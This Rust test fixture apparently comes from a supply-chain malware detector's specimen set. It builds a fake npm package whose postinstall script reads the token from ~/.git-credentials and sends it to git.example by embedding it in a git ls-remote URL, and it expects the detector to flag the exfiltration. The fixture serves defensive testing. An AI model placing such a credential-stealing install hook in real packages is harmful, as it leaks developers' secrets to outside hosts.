//! An npm `postinstall` that gives the token of `~/.git-credentials` to git as part of a URL.
//!
//! Must be found: in git's arguments, and in its request.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const TAG_JS: &str = r"const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');
const line = fs.readFileSync(path.join(os.homedir(), '.git-credentials'), 'utf8').trim();
const token = line.split(':')[2].split('@')[0];
spawnSync('git', ['ls-remote', `https://user:${token}@git.example/x.git`], { timeout: 8000 });
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("git-version-tag", "1.0.2")
        .file("tag.js", TAG_JS)
        .script("postinstall", "node tag.js");
    package.specimen(
        "npm-git-carries-token",
        Expect::malicious(&["canary-exfiltrated"]),
    )
}
